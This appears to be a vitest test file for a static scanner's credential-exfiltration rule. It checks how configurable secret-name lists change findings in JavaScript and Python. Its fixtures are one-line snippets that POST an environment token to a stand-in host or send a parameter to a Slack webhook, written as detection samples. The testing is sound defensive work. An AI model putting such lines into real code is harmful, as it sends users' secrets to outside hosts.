// signatures/sources.yaml envNotSecretNames and secretParameterNames: an entry added through
// a --signatures directory takes effect in both front-ends.
import { describe, expect, it } from "vitest";
import { loadSignatures } from "../../src/rules/signatures.js";
import { base, extraDir, jsFindings, pyFindings, sourcesYaml } from "./models-helpers.js";

const sources = (envNotSecret: string, parameters = "[]") =>
  loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", `envNotSecretNames: ${envNotSecret}\n`).replace("secretParameterNames: []", () => `secretParameterNames: ${parameters}`) })]);

describe("sources.yaml envNotSecretNames", () => {
  const js = 'fetch("https://c.example.invalid/", { method: "POST", body: process.env.ZORBLAT_API_TOKEN });\n';
  const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=os.environ["ZORBLAT_API_TOKEN"])\n';

  it("a variable named like a secret but listed as not one is no credential, in both front-ends", async () => {
    expect(await jsFindings(js, base)).toEqual(["credential-exfiltration critical 1"]);
    expect(await pyFindings(py, base)).toEqual(["credential-exfiltration critical 2"]);
    expect(await jsFindings(js, sources("['^ZORBLAT_']"))).toEqual([]);
    expect(await pyFindings(py, sources("['^ZORBLAT_']"))).toEqual([]);
  });
});

describe("sources.yaml secretParameterNames", () => {
  const py = 'import requests\ndef report(zorbcode):\n    requests.post("https://hooks.slack.com/services/T0/B0/x", data=zorbcode)\n';
  const js = 'module.exports = function report(zorbcode) {\n  fetch("https://hooks.slack.com/services/T0/B0/x", { method: "POST", body: zorbcode });\n};\n';

  it("a parameter with an added secret name, sent to a data-collection service, is a credential in both front-ends", async () => {
    const withName = sources("[]", "['^zorbcode$']");
    expect((await jsFindings(js, base)).some((f) => f.startsWith("credential-exfiltration"))).toBe(false);
    expect((await pyFindings(py, base)).some((f) => f.startsWith("credential-exfiltration"))).toBe(false);
    expect((await jsFindings(js, withName)).some((f) => f.startsWith("credential-exfiltration"))).toBe(true);
    expect((await pyFindings(py, withName)).some((f) => f.startsWith("credential-exfiltration"))).toBe(true);
  });
});
